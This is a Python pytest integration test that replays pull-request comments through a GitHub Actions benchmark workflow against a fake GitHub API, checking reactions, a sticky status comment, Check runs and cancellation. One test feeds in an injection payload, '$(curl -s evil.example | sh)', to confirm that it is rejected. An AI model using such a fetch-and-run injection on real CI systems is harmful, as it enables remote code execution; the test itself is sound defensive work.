"""``/bench`` end to end: a recorded PR comment replayed through the committed bench.yml.

tests/workflow_runner.py runs bench.yml's jobs as GitHub would (their ``if:``, outputs,
the concurrency group with ``cancel-in-progress``, GitHub's cancel signals, the second
checkout of the pull request's head into ``pr/``), each ``python -m scripts github
bench-*`` for real against the fake GitHub API; the benchmark is the real engine on the
local target (``BENCH_TARGET=local``) in quick mode, on the model's newest release,
built from its archive (it was never delivered). The pull request's head is a copy of
this repository's ``models/`` and ``kustomize/``, registered for its head sha.

The story: an ordinary comment and a malformed command run nothing; a ``/bench``
reacts 👀, fills one sticky comment (queued → running → results), completes the Check
run on the head commit and uploads the report; a second ``/bench`` while one runs
cancels it (the engine tears down; its Check run says ``cancelled``) and reports its
own results in the same comment.
"""

from __future__ import annotations

import json
import shutil
import subprocess
import sys
import threading
import time
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import pytest

from tests.conftest import REPO_ROOT, DigitsReleases
from tests.fakes.github_api import FakeGitHub
from tests.workflow_runner import ConcurrencyGroups, RunnerConfig, WorkflowResult, WorkflowRunner

pytestmark = [pytest.mark.integration, pytest.mark.tensorflow, pytest.mark.slow]
EVENTS = REPO_ROOT / "tests" / "events"
TOKEN = "ghs_replayed_bench_token"
HEAD = "9a8b7c6d5e4f3a2b1c0d9e8f7a6b5c4d3e2f1a0b"
STATE = "<!-- tf-release-pipeline:bench-state"


@dataclass
class PullRequest:
    github: FakeGitHub
    runner: WorkflowRunner
    workspace: Path
    overlays: list[str]
    run_ids: Iterator[int]

    def comment(self, body: str, user: str = "octocat") -> tuple[dict[str, Any], int]:
        """A new comment on pull request #42 and its issue_comment event."""
        made = self.github.add_comment(42, body, user)
        event = json.loads((EVENTS / "issue_comment.bench.json").read_text())
        event["comment"] |= {"id": made.id, "body": body}
        return event, made.id

    def replay(self, event: dict[str, Any], run_id: int | None = None) -> WorkflowResult:
        return self.runner.run_event(
            "bench.yml", "issue_comment", event, run_id=run_id or next(self.run_ids)
        )

    def sticky(self) -> str:
        bodies = [
            c.body
            for c in self.github.comments.values()
            if c.user == "github-actions[bot]" and STATE in c.body
        ]
        assert len(bodies) <= 1, "more than one sticky bench comment"
        return bodies[0] if bodies else ""


def _copy_repository(target: Path) -> None:
    files = subprocess.run(
        ["git", "ls-files", "-co", "--exclude-standard"],
        cwd=REPO_ROOT,
        check=True,
        capture_output=True,
        text=True,
        timeout=60,
    ).stdout.splitlines()
    for name in files:
        source = REPO_ROOT / name
        if source.is_file():
            (target / name).parent.mkdir(parents=True, exist_ok=True)
            shutil.copy2(source, target / name)


@pytest.fixture(scope="module")
def pull_request(
    tmp_path_factory: pytest.TempPathFactory, digits_releases: DigitsReleases
) -> Iterator[PullRequest]:
    root = tmp_path_factory.mktemp("bench-replay")
    archive = digits_releases(1)[1]  # trained once per session, read-only here
    github = FakeGitHub().start()
    github.token = TOKEN
    release = github.add_release(205000001, "digits-v1", body="Notes.")
    github.add_asset(release, archive.name, archive.read_bytes())
    checksum = archive.with_name(archive.name + ".sha256")
    github.add_asset(release, checksum.name, checksum.read_bytes())

    workspace = root / "workspace"  # the default branch: the pipeline's code
    _copy_repository(workspace)
    head = root / "pr-head"  # the pull request's head commit: its models and overlays
    for part in ("models", "kustomize"):
        shutil.copytree(workspace / part, head / part)
    overlays = sorted(
        p.parent.name for p in (head / "kustomize" / "overlays").glob("local-*/kustomization.yaml")
    )[:2]
    assert len(overlays) == 2, "the bench needs two local overlays"
    github.add_pull_request(
        42, head_sha=HEAD, files=[f"kustomize/overlays/{o}/kustomization.yaml" for o in overlays]
    )
    github.add_tree(HEAD, head)
    runner = WorkflowRunner(
        RunnerConfig(
            workspace=workspace,
            python_bin=Path(sys.executable).parent,
            vars={
                "BENCH_TARGET": "local",
                "BENCH_MODEL": "digits",
                "TF_SERVING_BASE": "scratch",
                # The search's ceiling (a shared cluster's guard): quick runs stop at
                # their start rate, 20 req/s, which is all these mechanics need.
                "BENCH_MAX_RPS": "20",
            },
            env={
                "GITHUB_API_URL": github.api_url,
                "XDG_CACHE_HOME": str(root / "cache"),
                "HOME": str(root / "home"),
                "TF_CPP_MIN_LOG_LEVEL": "2",
                "TF_PIPELINE_GITHUB_PACING": "0",
                "PYTHONDONTWRITEBYTECODE": "1",
            },
            token=TOKEN,
            repository=github.full_name,
            artifacts=root / "artifacts",
            concurrency=ConcurrencyGroups(),
            checkouts={HEAD: head},
            step_timeout_s=1800.0,
        )
    )
    (root / "artifacts").mkdir()
    (root / "home").mkdir()
    try:
        yield PullRequest(github, runner, workspace, overlays, iter(range(9_300_001, 9_400_000)))
    finally:
        github.stop()


# -- nothing runs -------------------------------------------------------------------------------
def test_an_ordinary_comment_runs_nothing(pull_request: PullRequest) -> None:
    event, comment_id = pull_request.comment("Looks good to me")
    before = len(pull_request.github.api_requests)
    result = pull_request.replay(event)
    assert {j.result for j in result.jobs.values()} == {"skipped"}, result.log()
    assert result.concurrency_group and result.concurrency_group.startswith("bench-comment-")
    assert len(pull_request.github.api_requests) == before
    assert pull_request.github.reactions(comment_id) == []


def test_a_malformed_command_gets_a_reply_and_runs_nothing(pull_request: PullRequest) -> None:
    event, comment_id = pull_request.comment("/bench $(curl -s evil.example | sh)")
    result = pull_request.replay(event)
    jobs = result.jobs
    assert jobs["start"].result == "success", result.log()
    assert jobs["start"].outputs["run"] == "false"
    assert jobs["bench"].result == "skipped" and jobs["finish"].result == "skipped"
    replies = [c.body for c in pull_request.github.comments.values() if c.id > comment_id]
    assert len(replies) == 1 and "is not a valid overlay name" in replies[0]
    assert pull_request.github.reactions(comment_id) == ["eyes", "confused"]
    assert not pull_request.github.check_runs


# -- a benchmark, end to end ---------------------------------------------------------------------
def test_a_bench_comment_reports_results_on_the_pull_request(pull_request: PullRequest) -> None:
    github = pull_request.github
    first, second = pull_request.overlays
    event, comment_id = pull_request.comment(f"/bench {first} {second} --quick")
    run_id = next(pull_request.run_ids)
    result = pull_request.replay(event, run_id)
    assert result.conclusion == "success", result.log()
    assert result.concurrency_group == "bench-pr-42"
    jobs = result.jobs
    plan = json.loads(jobs["start"].outputs["plan"])
    assert plan["head_sha"] == HEAD and plan["overlays"] == [first, second]
    assert plan["source"].endswith("/releases/205000001/digits-1.tar.gz")  # never delivered
    # The pull request's head was checked out beside the pipeline's code, at its sha.
    checkout = next(s for s in jobs["bench"].steps if s.outputs.get("ref") == HEAD)
    assert checkout.outcome == "success"
    assert jobs["finish"].result == "success"  # ran (always), found nothing to close
    assert '"action": "reported"' in jobs["finish"].steps[-1].stdout

    assert github.reactions(comment_id) == ["eyes", "rocket"]
    sticky = pull_request.sticky()
    assert f"{STATE} done run={run_id} -->" in sticky
    assert "Bench: `digits`" in sticky and f"`{first}`" in sticky and f"`{second}`" in sticky
    check = github.check_runs[plan["check_run_id"]]
    assert check.head_sha == HEAD and check.name == "bench"
    assert [h[0] for h in check.history] == ["queued", "in_progress", "completed"]
    assert check.conclusion in ("success", "neutral")  # neutral: no overlay met the SLO
    assert "digits" in check.output["summary"]
    report = pull_request.runner.config.artifacts / f"bench-pr42-{run_id}-1"
    assert (report / "bench.json").is_file(), sorted(report.parent.iterdir())
    assert (report / "github-comment.md").is_file()
    assert json.loads((report / "bench.json").read_text())["model"] == "digits"


def test_a_new_bench_cancels_the_running_one(pull_request: PullRequest) -> None:
    github = pull_request.github
    first, second = pull_request.overlays
    old_event, old_comment = pull_request.comment(f"/bench {first} {second} --quick")
    new_event, new_comment = pull_request.comment(f"/bench {first} --quick")
    old_run, new_run = next(pull_request.run_ids), next(pull_request.run_ids)
    results: dict[str, WorkflowResult] = {}
    old = threading.Thread(
        target=lambda: results.update(old=pull_request.replay(old_event, old_run))
    )
    old.start()
    # Once the old benchmark deploys or measures (its progress is in the comment) ...
    deadline = time.monotonic() + 900
    while (
        not any(word in pull_request.sticky() for word in ("📈 measuring", "🚢 deploying"))
        or f"run={old_run} " not in pull_request.sticky()
    ):
        assert old.is_alive() and time.monotonic() < deadline, "the first bench never started"
        time.sleep(0.5)
    # ... a second /bench arrives: the first is cancelled, then the second runs.
    results["new"] = pull_request.replay(new_event, new_run)
    old.join(timeout=300)
    assert not old.is_alive()

    cancelled = results["old"]
    assert cancelled.conclusion == "cancelled", cancelled.log()
    assert cancelled.jobs["bench"].result == "cancelled"
    bench_step = next(s for s in cancelled.jobs["bench"].steps if s.name == "bench")
    assert "cancelling the benchmark" in bench_step.stderr  # the signal reached Python
    assert cancelled.jobs["finish"].result == "success"  # always() ran after the cancel
    old_plan = json.loads(cancelled.jobs["start"].outputs["plan"])
    assert github.check_runs[old_plan["check_run_id"]].conclusion == "cancelled"
    assert github.reactions(old_comment) == ["eyes", "-1"]

    finished = results["new"]
    assert finished.conclusion == "success", finished.log()
    assert finished.jobs["start"].started >= cancelled.jobs["finish"].finished
    new_plan = json.loads(finished.jobs["start"].outputs["plan"])
    assert github.check_runs[new_plan["check_run_id"]].status == "completed"
    assert github.reactions(new_comment) == ["eyes", "rocket"]
    assert f"{STATE} done run={new_run} -->" in pull_request.sticky()
